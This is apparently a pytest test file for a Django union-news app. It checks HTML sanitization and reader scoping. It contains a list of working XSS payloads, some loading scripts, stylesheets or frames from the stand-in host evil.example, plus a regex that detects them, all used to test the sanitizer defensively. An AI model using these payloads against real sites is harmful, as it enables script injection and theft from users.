"""Review of articles: every class of XSS payload through the page form and the API (create and
update), checked in the stored HTML and in the rendered pages (title and summary escaped); ids in
request bodies resolved inside the caller's reach (an out-of-reach audience, model worker or
person answers like a missing one); publish scope for members of another town (pages, API,
images); scheduled publishing and read counts as readers see them."""

import datetime
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from gonghui.core.testing.api import api_as
from gonghui.publicity.models.articles import Article, ArticleRead, ArticleStatus
from gonghui.publicity.services import articles as services
from gonghui.publicity.testing.articles import PNG, draft, linked_member, member_account, published

pytestmark = pytest.mark.django_db

IMG = "/publicity/articles/1/images/2/"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="JaVaScRiPt:alert(1)">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="VBScript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="DaTa:image/svg+xml,&lt;svg onload=alert(1)&gt;">a</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<math href="javascript:alert(1)">m</math>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">p</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=pw type=password><button formaction=javascript:alert(1)>b'
    "</button></form>",
    '<input autofocus onfocus=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f'<img srcset="https://evil.example/t.png 1x" src="{IMG}">',
    f'<img src="{IMG}" onerror=alert(1) onload=alert(1)>',
    '<img src="https://evil.example/tracker.png">',
    '<img src="data:image/png;base64,AAAA">',
    '<p onclick=alert(1) onmouseover="alert(1)">p</p>',
    '<details open ontoggle=alert(1)>d</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<video><source onerror=alert(1)></video>",
    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
    '<a href="https://ok.example/" target="_blank" onclick="alert(1)">ok</a>',
    # unclosed: swallows what follows (dropped with it), so it comes last
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
# What may never appear in the stored or rendered body.
FORBIDDEN = re.compile(r"(?i)<script|<svg|<math|<style|<iframe|<object|<embed|<form|<input|<button|<meta|<base"
                       r"|<link|<video|<source|<details|\son\w+\s*=|javascript:|vbscript:|data:|srcset|style=|srcdoc"
                       r"|evil\.example|target=")


def client(user):
    c = Client()
    c.force_login(user)
    return c


def _body(html):
    return html.split('<div class="article-body">', 1)[1].split("</div>", 1)[0]


def _all_payloads():
    return "".join(f"<p>第{i}段</p>{p}" for i, p in enumerate(PAYLOADS))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_stripped_by_the_service(payload):
    clean = services.sanitize_html(f"<p>正文</p>{payload}")
    assert not FORBIDDEN.search(clean), clean


def test_payloads_through_the_page_create_and_edit_and_member_page(tree):
    linked_member(tree)
    c = client(tree.town1_cadre)
    title, summary = '<script>alert("t")</script>标题', '<img src=x onerror=alert("s")>摘要'
    data = {"org": tree.town1.pk, "category": "NEWS", "title": title, "summary": summary, "body": _all_payloads()}
    r = c.post(reverse("publicity:article_create"), {**data, "preview": "1"})
    assert r.status_code == 200 and not Article.objects.exists()
    page = r.content.decode()
    assert not FORBIDDEN.search(_body(page))
    assert '<script>alert("t")' not in page and '<img src=x onerror=alert("s")>' not in page
    assert c.post(reverse("publicity:article_create"), data).status_code == 302
    a = Article.objects.get()
    assert not FORBIDDEN.search(a.body) and "第0段" in a.body and "第38段" in a.body
    assert f'<img src="{IMG}" class="img-fluid">' in a.body  # our own image URL is kept, without srcset or handlers
    r = c.post(reverse("publicity:article_edit", args=[a.pk]),
               {"category": "NEWS", "title": title, "summary": summary, "body": "<p>改</p>" + _all_payloads()})
    assert r.status_code == 302
    a.refresh_from_db()
    assert not FORBIDDEN.search(a.body) and "<p>改</p>" in a.body
    services.publish(actor=tree.town1_cadre, article=a)
    pages = [
        c.get(reverse("publicity:article_detail", args=[a.pk])).content.decode(),
        c.get(reverse("publicity:article_edit", args=[a.pk])).content.decode(),
        client(tree.member_user).get(reverse("publicity:news_detail", args=[a.pk])).content.decode(),
    ]
    for html in pages[::2]:
        assert not FORBIDDEN.search(_body(html))
    lists = [c.get(reverse("publicity:article_list")).content.decode(),
             client(tree.member_user).get(reverse("publicity:news_list")).content.decode()]
    for html in pages + lists:
        assert '<script>alert("t")' not in html, html[html.index('<script>alert("t")') - 300:][:400]
        assert '<img src=x onerror=alert("s")>' not in html
        assert "&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;标题" in html


def test_payloads_through_the_api_create_and_update(tree):
    linked_member(tree)
    api = api_as(tree.town1_cadre)
    r = api.post("/articles", {"org": tree.town1.pk, "title": "<svg onload=alert(1)>", "category": "NEWS",
                               "summary": "<script>s</script>", "body": _all_payloads()})
    assert r.status_code == 201, r.content
    aid = r.json()["id"]
    assert not FORBIDDEN.search(r.json()["body"]) and not FORBIDDEN.search(Article.objects.get(pk=aid).body)
    r = api.post(f"/articles/{aid}/update", {"title": "<b>t</b>", "category": "NOTICE", "summary": "",
                                             "body": "<p>新</p>" + _all_payloads()})
    assert r.status_code == 200 and not FORBIDDEN.search(r.json()["body"]) and "<p>新</p>" in r.json()["body"]
    api.post(f"/articles/{aid}/publish", {})
    got = api_as(tree.member_user).get(f"/articles/{aid}").json()
    assert not FORBIDDEN.search(got["body"])
    html = client(tree.member_user).get(reverse("publicity:news_detail", args=[aid])).content.decode()
    assert not FORBIDDEN.search(_body(html)) and "&lt;b&gt;t&lt;/b&gt;" in html


def test_a_body_of_payloads_only_is_refused_everywhere(tree):
    only = "<script>alert(1)</script><svg onload=alert(1)></svg><iframe src=//e></iframe><style>p{}</style>"
    r = client(tree.town1_cadre).post(reverse("publicity:article_create"),
                                      {"org": tree.town1.pk, "category": "NEWS", "title": "t", "body": only})
    assert r.status_code == 400
    r = api_as(tree.town1_cadre).post("/articles", {"org": tree.town1.pk, "title": "t", "category": "NEWS",
                                                    "body": only})
    assert r.status_code == 400 and r.json()["field"] == "body"
    assert not Article.objects.exists()


# --- references in request bodies ---------------------------------------------------------------

def test_out_of_reach_audience_answers_like_a_missing_one(tree):
    api = api_as(tree.town1_cadre)
    base = {"org": tree.town1.pk, "title": "t", "category": "NEWS", "body": "<p>x</p>"}
    hidden = api.post("/articles", {**base, "scope_org": tree.town2.pk})
    missing = api.post("/articles", {**base, "scope_org": 999999})
    assert hidden.status_code == missing.status_code == 400
    assert hidden.json()["code"] == missing.json()["code"] == "unknown_reference"
    assert tree.town2.name not in hidden.content.decode()
    a = draft(tree)
    r = api.post(f"/articles/{a.pk}/update", {"title": "t", "category": "NEWS", "body": "<p>x</p>",
                                              "scope_org": tree.union2.pk})
    assert r.status_code == 400 and r.json()["code"] == "unknown_reference"
    # the page: the same "invalid choice" for a hidden org and a missing one
    c = client(tree.town1_cadre)
    answers = []
    for pk in (tree.union2.pk, 999999):
        r = c.post(reverse("publicity:article_create"), {**base, "scope_org": pk})
        assert r.status_code == 400
        answers.append(r.context["form"].errors["scope_org"])
    assert answers[0] == answers[1]
    assert Article.objects.count() == 1
    a.refresh_from_db()
    assert a.scope_org == tree.town1


def test_out_of_reach_model_worker_and_person_are_unknown_references(tree):
    from gonghui.members.models import Person

    api = api_as(tree.town1_cadre)
    other = tree.member(union=tree.union2).person
    r = api.post("/articles", {"org": tree.town1.pk, "title": "t", "category": "PROFILE", "body": "<p>x</p>",
                               "person": other.pk})
    assert r.status_code == 400 and r.json()["code"] == "unknown_reference" and r.json()["field"] == "person"
    assert other.name not in r.content.decode()
    mine = tree.member(union=tree.union1).person
    r = api.post("/articles", {"org": tree.town1.pk, "title": "t", "category": "PROFILE", "body": "<p>x</p>",
                               "person": mine.pk})
    assert r.status_code == 201 and Article.objects.get().person == Person.objects.get(pk=mine.pk)


# --- publish scope, images, scheduling, reads ---------------------------------------------------------

def test_a_member_of_town1_never_sees_a_town2_article(tree):
    linked_member(tree)  # member_user: union1 (town1)
    town2_member = member_account(tree, tree.union2, "m2")
    t2 = published(tree, org=tree.town2, title="北干街道专属")
    district_to_town2 = published(tree, org=tree.district, scope_org=tree.town2, title="区发北干")
    union1b_only = published(tree, org=tree.town1, scope_org=tree.union1b, title="乙企业专属")
    everyone = published(tree, org=tree.district, title="全区通知")
    m1, m2 = client(tree.member_user), client(town2_member)
    listing = m1.get(reverse("publicity:news_list")).content.decode()
    assert "全区通知" in listing
    for hidden in (t2, district_to_town2, union1b_only):
        assert hidden.title not in listing
        assert m1.get(reverse("publicity:news_detail", args=[hidden.pk])).status_code == 404
        assert api_as(tree.member_user).get(f"/articles/{hidden.pk}").status_code == 404
    feed = {x["id"] for x in api_as(tree.member_user).get("/articles", {"feed": "mine"}).json()["items"]}
    assert feed == {everyone.pk}
    feed2 = {x["id"] for x in api_as(town2_member).get("/articles", {"feed": "mine"}).json()["items"]}
    assert feed2 == {everyone.pk, t2.pk, district_to_town2.pk}
    assert m2.get(reverse("publicity:news_detail", args=[t2.pk])).status_code == 200
    assert not ArticleRead.objects.filter(user=tree.member_user).exists()


def test_images_only_to_readers_in_scope(tree):
    linked_member(tree)
    town2_member = member_account(tree, tree.union2, "m2")
    a = draft(tree, org=tree.town1)
    image = services.add_image(actor=tree.town1_cadre, article=a,
                               upload=SimpleUploadedFile("a.png", PNG, "image/png"), as_cover=True)
    url = reverse("publicity:article_image", args=[a.pk, image.pk])
    assert client(tree.member_user).get(url).status_code == 404  # a draft: not yet for members
    assert client(tree.town1_cadre).get(url).status_code == 200
    services.publish(actor=tree.town1_cadre, article=a)
    r = client(tree.member_user).get(url)
    assert r.status_code == 200 and r["Content-Type"] == "image/png" and r["X-Content-Type-Options"] == "nosniff"
    for user in (town2_member, tree.town2_cadre, tree.union2_chair, tree.outsider):
        assert client(user).get(url).status_code == 404, user
    other = draft(tree, org=tree.town2)
    assert client(tree.member_user).get(reverse("publicity:article_image", args=[other.pk, image.pk])) \
        .status_code == 404  # the image of another article's id
    services.withdraw(actor=tree.town1_cadre, article=a, reason="撤回")
    assert client(tree.member_user).get(url).status_code == 404
    assert Client().get(url).status_code == 302  # login first


def test_scheduled_article_shows_on_time_and_reads_count_once(tree, monkeypatch):
    linked_member(tree)
    a = draft(tree)
    when = timezone.now() + datetime.timedelta(hours=2)
    services.publish(actor=tree.town1_cadre, article=a, publish_at=when)
    m = client(tree.member_user)
    assert m.get(reverse("publicity:news_detail", args=[a.pk])).status_code == 404
    assert a.pk not in [x["id"] for x in api_as(tree.member_user).get("/articles", {"feed": "mine"}).json()["items"]]
    later = when + datetime.timedelta(minutes=1)
    monkeypatch.setattr("django.utils.timezone.now", lambda: later)
    monkeypatch.setattr(services, "now", lambda: later)
    # due but the beat task has not run yet: readers see it already
    assert Article.objects.get(pk=a.pk).status == ArticleStatus.SCHEDULED
    assert m.get(reverse("publicity:news_detail", args=[a.pk])).status_code == 200
    assert api_as(tree.member_user).get(f"/articles/{a.pk}").json()["status"] == "PUBLISHED"
    assert services.publish_due() == 1 and services.publish_due() == 0
    a.refresh_from_db()
    assert a.status == ArticleStatus.PUBLISHED and a.published_at == when
    # read counts: the member's page and API count one read; the cadres' pages none
    m.get(reverse("publicity:news_detail", args=[a.pk]))
    api_as(tree.member_user).get(f"/articles/{a.pk}")
    client(tree.town1_cadre).get(reverse("publicity:article_detail", args=[a.pk]))
    api_as(tree.town1_cadre).get(f"/articles/{a.pk}")
    a.refresh_from_db()
    assert a.read_count == 1 and ArticleRead.objects.filter(article=a).count() == 1


def test_model_worker_through_the_page_and_the_api(tree):
    from gonghui.honours.testing.modelworkers import model_worker

    mine = model_worker(tree, union=tree.union1)
    other = model_worker(tree, union=tree.union2)
    c = client(tree.town1_cadre)
    base = {"org": tree.town1.pk, "category": "PROFILE", "title": "劳模风采", "body": "<p>事迹</p>"}
    r = c.post(reverse("publicity:article_create"), {**base, "model_worker": other.pk})
    assert r.status_code == 400 and "model_worker" in r.context["form"].errors and not Article.objects.exists()
    r = c.post(reverse("publicity:article_create"), {**base, "model_worker": mine.pk})
    assert r.status_code == 302, r.context["form"].errors
    a = Article.objects.get()
    assert a.model_worker == mine and a.person_id == mine.person_id
    r = api_as(tree.town1_cadre).post(f"/articles/{a.pk}/update", {"title": "t", "category": "PROFILE",
                                                                   "body": "<p>x</p>", "model_worker": other.pk})
    assert r.status_code == 400 and r.json()["code"] == "unknown_reference"
    a.refresh_from_db()
    assert a.model_worker == mine
